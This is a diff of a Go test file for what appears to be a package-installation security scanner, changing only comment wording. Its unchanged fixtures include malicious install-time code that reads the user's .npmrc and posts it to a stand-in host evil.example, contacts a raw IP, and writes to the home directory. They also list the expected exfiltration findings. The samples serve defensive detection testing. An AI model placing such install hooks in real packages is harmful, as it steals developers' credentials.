@@ -15,12 +15,12 @@ import (
 	"github.com/mcpsf/mcpsf/internal/acquire/cache"
 )
 
-// The packages of these tests are all the same server. What differs is the
-// code that runs when they are installed.
+// The packages of these tests contain the same server. Only the code that runs
+// during installation differs.
 
-// TestInstall assesses packages that do all kinds of things while they are
-// installed, several at a time, with a home and a temporary directory that are
-// theirs alone. Nothing of them is left there or elsewhere on the host.
+// TestInstall assesses packages that do all kinds of things during installation,
+// several at a time, with their own home and temporary directory. They must
+// leave nothing there or elsewhere on the host.
 func TestInstall(t *testing.T) {
 	h := newHostCheck(t)
 	home := filepath.Join(h.base, "home")
@@ -41,7 +41,7 @@ func TestInstall(t *testing.T) {
 }
 
 const (
-	// evilPython and evilNode write $HOME/pwn, read a secret and call out.
+	// evilPython and evilNode write $HOME/pwn, read a decoy and contact a host.
 	evilPython = `
 import os, socket, urllib.request
 home = os.path.expanduser("~")
@@ -59,7 +59,7 @@ const loot = fs.readFileSync(path.join(os.homedir(), ".npmrc"));
 https.request("https://evil.example/", { method: "POST" }, (r) => r.resume()).on("error", () => {}).end(loot);
 const raw = net.connect(443, "192.0.2.7", () => raw.destroy()).on("error", () => {});
 `
-	// what an honest package may do when it is installed.
+	// goodPython is what an honest package may do during installation.
 	goodPython = `
 import os, platform, sys, tempfile
 with tempfile.TemporaryFile() as f: f.write(platform.machine().encode())
@@ -105,7 +105,7 @@ func wheelServer(t *testing.T, more files, needs ...string) []byte {
 	return wheel(t, "case_server", content, needs...)
 }
 
-// setupServer is a source whose setup.py begins with code.
+// setupServer is a source package whose setup.py begins with code.
 func setupServer(t *testing.T, code string) []byte {
 	t.Helper()
 	content := pythonServer(t)
@@ -118,7 +118,7 @@ setup(name="case-server", version="1.0.0", packages=["case_server"],
 	return packed(t, "case_server-1.0.0", content)
 }
 
-// backendServer is a source that brings the program that builds it.
+// backendServer is a source package with its own build backend.
 func backendServer(t *testing.T, code string) []byte {
 	t.Helper()
 	content := pythonServer(t)
@@ -191,7 +191,7 @@ func worked(t *testing.T, r *Result) {
 	}
 }
 
-// told are the findings as "id phase", and those above info alone.
+// told returns the findings as "id phase", and those above info separately.
 func told(r *Result) (all, grave []string) {
 	for _, f := range r.Report.Findings {
 		line := f.ID + " " + string(f.Phase)
@@ -219,7 +219,7 @@ func wantFindings(t *testing.T, r *Result, want ...string) {
 	}
 }
 
-// thefts are what an installation with the evil code is told for.
+// thefts are the expected findings for an installation with the evil code.
 var thefts = []string{
 	"decoy-read-at-install install", "install-secret-exfiltration install", "install-network-access install",
 	"install-raw-ip-contact install", "install-write-outside-package install", "secret-exfiltration install",
